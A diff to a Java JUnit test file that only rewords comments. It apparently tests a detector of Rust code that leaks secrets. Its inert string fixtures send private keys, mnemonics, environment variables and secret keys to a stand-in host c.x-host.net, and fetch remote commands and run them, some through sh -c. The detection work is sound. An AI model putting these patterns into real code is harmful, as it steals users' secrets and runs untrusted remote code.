@@ -14,7 +14,7 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /// Libraries whose values pass through fields, results and parameters of several sources before
-/// they are sent or run. `%%` stands between the sources. All are inert and never compiled.
+/// they are sent or run. `%%` separates the sources. All are inert and never compiled.
 final class ReachConductTest {
   private static final String POST =
       "pub async fn note(c: &reqwest::Client, words: &str) { c.post(\"https://c.x-host.net/v1\").json(&serde_json::json!({\"w\": words})).send().await; }";
@@ -35,7 +35,7 @@ final class ReachConductTest {
         "mod ev; pub fn unlock(private_key: &str) { let e = ev::Event { kind: 1, tag: private_key.to_string() }; ev::ship(e); }%%pub struct Event { pub kind: u8, pub tag: String } pub fn ship(e: Event) { ureq::post(\"https://c.x-host.net\").send_json(&e); }",
         // A result of a function.
         "mod env; pub fn f() { let all = env::gather(); reqwest::Client::new().post(\"https://c.x-host.net\").form(&all).send(); }%%pub fn gather() -> Vec<(String, String)> { std::env::vars().collect() }",
-        // A datagram, the destination a constant.
+        // A datagram whose destination is a constant.
         "mod net; pub fn f(secret_key: &[u8]) { net::beat(secret_key); }%%use std::net::UdpSocket; const TO: &str = \"c.x-host.net:53\"; pub fn beat(data: &[u8]) { let s = UdpSocket::bind(a).unwrap(); for part in data.chunks(32) { s.send_to(part, TO); } }",
         // A queue in a field that a thread empties.
         "mod q; pub fn f(q: &mut q::Queue, mnemonic: &str) { q.stash(mnemonic); }%%pub struct Queue { rows: Vec<String> } impl Queue { pub fn stash(&mut self, row: &str) { self.rows.push(row.to_string()); } pub fn drain_all(&mut self) { ureq::post(\"https://c.x-host.net\").send_json(&self.rows); } }",
@@ -49,9 +49,9 @@ final class ReachConductTest {
       strings = {
         // The caller's host.
         "mod report; pub async fn open(c: &Client, phrase: &str) { report::note(c, B, phrase).await; }%%pub async fn note(c: &reqwest::Client, base: &str, words: &str) { c.post(format!(\"{base}/v1\")).json(&words).send().await; }",
-        // A credential that goes into the header of its own service.
+        // A credential in the header for its own service.
         "mod io; pub struct Api { http: reqwest::Client, auth: String } impl Api { pub fn open() -> Self { Self { http: c(), auth: io::load() } } pub async fn get(&self, q: &str) { self.http.post(\"https://api.x-host.net\").bearer_auth(&self.auth).json(&q).send().await; } }%%pub fn load() -> String { std::fs::read_to_string(home.join(\".netrc\")).unwrap_or_default() }",
-        // A signature is no secret.
+        // A signature is not a secret.
         "mod report; pub async fn open(c: &Client, private_key: &str) { report::note(c, sign(private_key)).await; }%%"
             + POST,
         "mod report; pub async fn open(c: &Client, name: &str) { report::note(c, name).await; }%%"
@@ -64,7 +64,7 @@ final class ReachConductTest {
   @ParameterizedTest
   @ValueSource(
       strings = {
-        // A feed, its steps nested, split into program and arguments.
+        // A feed with nested steps, split into program and arguments.
         "mod feed; pub async fn f(c: &reqwest::Client) { let f: feed::Feed = c.get(U).send().await.unwrap().json().await.unwrap(); f.apply(); }%%#[derive(serde::Deserialize)] pub struct Feed { pub title: String, pub hooks: Vec<Hook> } #[derive(serde::Deserialize)] pub struct Hook { pub line: Vec<String> } impl Feed { pub fn apply(&self) { for h in &self.hooks { h.go(); } } } impl Hook { pub fn go(&self) { if let Some((first, rest)) = self.line.split_first() { std::process::Command::new(first).args(rest).spawn(); } } }",
         "mod get; mod m; pub fn f() { let n = get::notice().unwrap(); m::start(&n.update); }%%use crate::m::Notice; pub fn notice() -> Result<Notice, E> { let t = ureq::get(U).call()?.into_string()?; Ok(serde_json::from_str::<Notice>(&t)?) }%%#[derive(Deserialize)] pub struct Notice { pub update: Update } #[derive(Deserialize)] pub struct Update { pub program: String } pub fn start(u: &Update) { std::process::Command::new(&u.program).spawn(); }",
         "mod run; pub fn f() { let t = reqwest::blocking::get(U).unwrap().text().unwrap(); run::go(&t); }%%pub fn go(cmd: &str) { std::process::Command::new(\"sh\").arg(\"-c\").arg(cmd).status(); }",
@@ -81,7 +81,7 @@ final class ReachConductTest {
   @ParameterizedTest
   @ValueSource(
       strings = {
-        // A configuration of the user, beside a client.
+        // A configuration of the user, next to a client.
         "mod conf; pub fn f() { let c = conf::load(P); c.go(); reqwest::blocking::get(U); }%%#[derive(serde::Deserialize)] pub struct Conf { pub editor: String } pub fn load(p: &Path) -> Conf { let t = std::fs::read_to_string(p).unwrap(); toml::from_str(&t).unwrap() } impl Conf { pub fn go(&self) { std::process::Command::new(&self.editor).spawn(); } }",
         "pub fn f(e: &rhai::Engine, script: &str) { e.eval::<()>(script); reqwest::blocking::get(U); }",
         "#[derive(Deserialize)] struct Rate { usd: f64 } pub fn f(program: &str) { let r: Rate = reqwest::blocking::get(U).unwrap().json().unwrap(); std::process::Command::new(program).arg(r.usd.to_string()).spawn(); }",
